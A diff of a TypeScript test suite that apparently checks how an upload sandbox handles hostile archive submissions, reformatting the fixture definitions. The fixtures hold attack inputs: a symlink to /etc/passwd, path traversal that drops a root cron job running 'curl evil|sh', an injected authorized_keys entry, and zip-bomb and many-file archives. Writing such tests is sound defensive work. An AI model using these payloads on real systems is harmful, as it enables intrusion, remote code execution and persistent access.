@@ -103,17 +103,35 @@ describe('hostile submissions in the sandbox', () => {
 
 const archiveMakers: Record<string, () => Promise<Buffer[]>> = {
   'symlink-passwd': async () => {
-    const zip: RawZipEntry[] = [{ name: 'solution.py', data: 'x = 1\n' }, { name: 'data/passwd', data: '/etc/passwd', unixMode: 0o120777 }];
-    const tgz: RawTarEntry[] = [{ name: 'solution.py', data: 'x = 1\n' }, { name: 'data/passwd', type: 'symlink', linkname: '/etc/passwd' }];
+    const zip: RawZipEntry[] = [
+      { name: 'solution.py', data: 'x = 1\n' },
+      { name: 'data/passwd', data: '/etc/passwd', unixMode: 0o120777 },
+    ];
+    const tgz: RawTarEntry[] = [
+      { name: 'solution.py', data: 'x = 1\n' },
+      { name: 'data/passwd', type: 'symlink', linkname: '/etc/passwd' },
+    ];
     return [buildZip(zip), await buildTarGz(tgz)];
   },
   'path-traversal': async () => [
-    buildZip([{ name: 'solution.py', data: 'x' }, { name: '../../../../etc/cron.d/evil', data: '* * * * * root sh -c "curl evil|sh"\n' }]),
-    await buildTarGz([{ name: 'solution.py', data: 'x' }, { name: 'src/../../../root/.ssh/authorized_keys', data: 'ssh-rsa AAAA' }]),
+    buildZip([
+      { name: 'solution.py', data: 'x' },
+      { name: '../../../../etc/cron.d/evil', data: '* * * * * root sh -c "curl evil|sh"\n' },
+    ]),
+    await buildTarGz([
+      { name: 'solution.py', data: 'x' },
+      { name: 'src/../../../root/.ssh/authorized_keys', data: 'ssh-rsa AAAA' },
+    ]),
   ],
   bomb: async () => {
     const zeros = Buffer.alloc(200 * 1024 * 1024);
-    return [buildZip([{ name: 'solution.py', data: 'x' }, { name: 'bomb.bin', data: zeros }]), buildManyFilesTarGz(1, () => 'bomb.bin', zeros)];
+    return [
+      buildZip([
+        { name: 'solution.py', data: 'x' },
+        { name: 'bomb.bin', data: zeros },
+      ]),
+      buildManyFilesTarGz(1, () => 'bomb.bin', zeros),
+    ];
   },
   '100k-files': async () => {
     const entries = Array.from({ length: 100_000 }, (_, i) => ({ name: `f/${i}.txt`, data: 'x', deflate: false }));
